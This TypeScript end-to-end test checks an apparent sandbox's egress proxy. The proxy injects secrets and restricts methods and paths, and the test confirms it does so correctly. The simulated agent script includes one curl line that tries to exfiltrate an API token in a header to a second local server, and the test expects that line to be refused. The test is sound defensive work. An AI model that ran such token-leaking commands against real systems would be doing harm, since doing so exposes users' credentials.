/**
 * The egress proxy with the real secrets broker, through `bin/airlock run` on a real backend:
 * HTTPS to a host with an injection rule and method/path restrictions is TLS-terminated by the
 * broker, the proxy enforces methods/paths on each decrypted request and re-encrypts to the
 * upstream (trusted through network.upstreamCA); the placeholder sent to another host is refused.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import https from 'node:https';
import http from 'node:http';
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { AddressInfo } from 'node:net';

const AIRLOCK = resolve(fileURLToPath(new URL('../../../bin/airlock', import.meta.url)));

function backend(): string | undefined {
  if (spawnSync('bwrap', ['--version']).status === 0) return 'bwrap';
  if (spawnSync('runsc', ['--version']).status === 0) return 'gvisor';
  return undefined;
}

test('TLS-terminated requests: injection, methods/paths per request, exfiltration refused', { timeout: 90_000 }, async (t) => {
  const b = backend();
  if (!b) return t.skip('no sandbox backend installed');
  if (spawnSync('curl', ['--version']).status !== 0) return t.skip('curl is not installed');
  const root = mkdtempSync(join(tmpdir(), 'airlock-e2e-netsec-'));
  t.after(() => rmSync(root, { recursive: true, force: true }));
  const certs = spawnSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-subj', '/CN=localhost', '-addext', 'subjectAltName=DNS:localhost', '-days', '1', '-keyout', join(root, 'k.pem'), '-out', join(root, 'c.pem')]);
  if (certs.status !== 0) return t.skip('openssl cannot make a test certificate');
  const REAL = 'real-token-value-0123456789';
  const up = https.createServer({ key: readFileSync(join(root, 'k.pem')), cert: readFileSync(join(root, 'c.pem')) }, (req, res) => {
    res.end(`${req.method} ${req.url} ${req.headers.authorization === `Bearer ${REAL}` ? 'auth-ok' : 'auth-bad'}`);
  });
  await new Promise<void>((r) => up.listen(0, '127.0.0.1', r));
  t.after(() => up.close());
  const upPort = (up.address() as AddressInfo).port;
  let otherHits = 0;
  const other = http.createServer((req, res) => {
    otherHits++;
    res.end('other');
  });
  await new Promise<void>((r) => other.listen(0, '127.0.0.1', r));
  t.after(() => other.close());
  const otherPort = (other.address() as AddressInfo).port;

  mkdirSync(join(root, 'ws'));
  const policy = join(root, 'airlock.yaml');
  writeFileSync(
    policy,
    `version: 1
filesystem: { workspace: ./ws }
network:
  upstreamCA: ./c.pem
  allow:
    - { host: "localhost:${upPort}", methods: [GET], paths: ["/ok/**"] }
    - "127.0.0.1:${upPort}"
    - "[::1]:${upPort}"
    - "127.0.0.1:${otherPort}"
secrets:
  API_TOKEN:
    from: env:REAL_API_TOKEN
    inject: { host: localhost, header: Authorization, format: "Bearer {}" }
`,
  );
  const agent = `p=$1; o=$2
echo "get=$(curl -s -m 8 "https://localhost:$p/ok/1")"
echo "path=$(curl -s -m 8 -o /dev/null -w '%{http_code}' "https://localhost:$p/admin")"
echo "method=$(curl -s -m 8 -o /dev/null -w '%{http_code}' -X POST "https://localhost:$p/ok/1")"
echo "exfil=$(curl -s -m 8 -o /dev/null -w '%{http_code}' -H "X-Leak: $API_TOKEN" "http://127.0.0.1:$o/")"
echo "seen=$(printf %s "$API_TOKEN" | grep -c '${REAL}')"
`;
  const r = await new Promise<{ code: number | null; out: string; err: string }>((res) => {
    const p = spawn(AIRLOCK, ['run', '--policy', policy, '--backend', b, '--network-log', '--', '/bin/sh', '-c', agent, 'agent', String(upPort), String(otherPort)], {
      env: { ...process.env, AIRLOCK_HOME: join(root, 'home'), REAL_API_TOKEN: REAL },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let out = '';
    let err = '';
    p.stdout.on('data', (d) => (out += d));
    p.stderr.on('data', (d) => (err += d));
    p.on('close', (code) => res({ code, out, err }));
  });
  assert.equal(r.code, 0, r.err);
  const got = Object.fromEntries(r.out.trim().split('\n').map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));
  assert.equal(got.get, 'GET /ok/1 auth-ok', `${r.out}\n${r.err}`);
  assert.equal(got.path, '403');
  assert.equal(got.method, '403');
  assert.equal(got.exfil, '403');
  assert.equal(got.seen, '0', 'the real value never entered the sandbox');
  assert.equal(otherHits, 0, 'the request carrying the placeholder never left the proxy');
  assert.match(r.err, new RegExp(`localhost:${upPort}`));
});
